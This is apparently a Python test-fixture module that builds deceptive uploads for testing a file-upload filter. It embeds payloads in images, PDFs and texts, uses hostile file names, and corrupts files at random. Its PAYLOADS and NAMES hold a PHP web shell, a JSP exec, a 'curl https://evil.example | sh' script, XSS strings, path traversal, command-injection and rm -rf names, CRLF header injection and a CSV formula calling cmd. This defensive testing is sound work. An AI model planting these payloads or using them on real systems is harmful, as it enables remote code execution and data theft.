"""Files that are one thing and try to be another: programs in pictures, names that deceive, bytes bent at random."""

import random
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from io import BytesIO

from PIL import PngImagePlugin

from tests.attachments import files

PAYLOADS = {
    "page": b"<!doctype html><script>alert(1)</script>",
    "svg": files.SVG,
    "php": b"<?php system($_GET['c']); ?>",
    "jsp": b'<% Runtime.getRuntime().exec("id"); %>',
    "shell": b"#!/bin/sh\ncurl https://evil.example | sh\n",
    "script": b"*/=1;alert(document.cookie)//",
    "zip": files.archive("evil.js"),
    "program": b"MZ\x90\0\x03\0\0\0PE\0\0",
}
PICTURES = {"png": "PNG", "jpg": "JPEG", "gif": "GIF", "webp": "WEBP"}
NAMES = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/cron.d/evil",
    "C:\\autoexec.bat",
    "file:///etc/passwd",
    ".htaccess",
    ".env",
    "shell.php",
    "shell.php.png",
    "shell.php%00.txt",
    "shell.php\0.txt",
    "page.html",
    "page.svg",
    "page.xhtml;.txt",
    "evil.exe",
    "photo\u202egnp.exe",
    "photo\u200b.png.exe",
    "CON",
    "aux.txt",
    "a" * 400 + ".txt",
    "<script>alert(1)<script>.txt",
    '"onmouseover="alert(1).txt',
    "a\r\nSet-Cookie: x=1.txt",
    "a\nContent-Type: text/html\n\n.txt",
    "$(id).txt",
    "`id`.txt",
    "; rm -rf ~;.txt",
    "=cmd|' /C calc'!A1.csv",
    "%2e%2e%2fevil.txt",
    "\uff0e\uff0e\uff0fevil.txt",
    " ",
    "...",
)
BENT = 10  # of each kind


@dataclass(frozen=True)
class Deceiver:
    """One upload: what it is, its bytes and name, and what must not be in what is kept."""

    what: str
    content: bytes = field(repr=False)
    name: str = "a.png"
    hidden: bytes = b""


def every() -> list[Deceiver]:
    """All of them, the same each time."""
    return [*_carriers(), *_named(), *_bent()]


def _carriers() -> Iterator[Deceiver]:
    """Each payload within a picture of each kind, behind it, and within a PDF and a text."""
    for kind, payload in PAYLOADS.items():
        for ending, name in PICTURES.items():
            whole = files.picture(name, mode="P" if name == "GIF" else "RGB")
            yield Deceiver(f"{kind} behind a {ending}", whole + payload, f"a.{ending}", payload)
        yield Deceiver(f"{kind} in a comment of a png", _png_saying(payload), "a.png", payload)
        yield Deceiver(f"{kind} in a comment of a jpg", files.picture("JPEG", comment=payload), "a.jpg", payload)
        yield Deceiver(f"{kind} in a chunk of a png", _png_with_chunk(payload), "a.png", payload)
        yield Deceiver(f"{kind} in a text", b"hello\n" + payload, f"a.{kind}")


def _named() -> Iterator[Deceiver]:
    """A text under each of the names."""
    for name in NAMES:
        yield Deceiver(f"a text called {name[:40]!r}", b"hello", name)


def _bent() -> Iterator[Deceiver]:
    """Whole files of each kind with some bytes changed."""
    chance = random.Random(13)
    whole = {ending: files.picture(name, mode="P" if name == "GIF" else "RGB") for ending, name in PICTURES.items()}
    for ending, content in {**whole, "pdf": files.PDF}.items():
        for number in range(BENT):
            bent = bytearray(content)
            for _ in range(chance.randint(1, 8)):
                bent[chance.randrange(8, len(bent))] = chance.randrange(256)
            yield Deceiver(f"a bent {ending}, {number}", bytes(bent), f"a.{ending}")


def _png_saying(payload: bytes) -> bytes:
    said = PngImagePlugin.PngInfo()
    said.add_text("Comment", payload.decode("latin-1"))
    out = BytesIO()
    out.write(files.picture("PNG", pnginfo=said))
    return out.getvalue()


def _png_with_chunk(payload: bytes) -> bytes:
    whole = files.picture("PNG")
    body = b"prVt" + payload
    return whole[:33] + struct.pack(">I", len(payload)) + body + struct.pack(">I", zlib.crc32(body)) + whole[33:]
